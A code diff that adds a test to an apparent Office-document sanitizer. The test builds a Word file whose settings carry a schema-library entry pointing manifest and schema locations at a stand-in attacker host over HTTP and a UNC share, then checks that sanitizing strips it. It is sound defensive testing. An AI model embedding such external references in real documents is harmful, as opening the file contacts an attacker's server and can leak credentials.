@@ -792,3 +792,23 @@ def test_a_charts_data_label_range_is_a_formula_too(tmp_path: Path) -> None:
             written = package.read("xl/charts/chart1.xml").decode()
         assert ("c15:f" in written) == (which == "local") and "attacker" not in written
         assert inspect_file(output, tmp_path).clean, which
+
+
+def test_a_schema_library_naming_where_to_load_schemas_from_goes(tmp_path: Path) -> None:
+    """Word's settings may carry sl:schemaLibrary: the file, share or URL to load an XML schema and
+    its manifest from. The rebuild kept it (its names are in the schemas) and the inspector, which
+    allows no such namespace, blocked the document (verification_failed)."""
+    source = base_docx(tmp_path)
+    with zipfile.ZipFile(source) as package:
+        settings = package.read("word/settings.xml").decode()
+    library = ('<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema '
+               'sl:uri="urn:x-form" sl:manifestLocation="http://attacker.example/m.xml" '
+               'sl:schemaLocation="\\\\attacker.example\\share\\s.xsd"/></sl:schemaLibrary>')
+    hostile = edit_package(source, tmp_path / "schemas.docx", {
+        "word/settings.xml": settings.replace("</w:settings>", library + "</w:settings>").encode()})
+    outcome, codes, output = sanitize(hostile, tmp_path)
+    assert outcome == "sanitized" and "external_link_removed" in codes and output is not None
+    with zipfile.ZipFile(output) as package:
+        written = package.read("word/settings.xml").decode()
+    assert "schemaLibrary" not in written and "attacker" not in written
+    assert inspect_file(output, tmp_path).clean
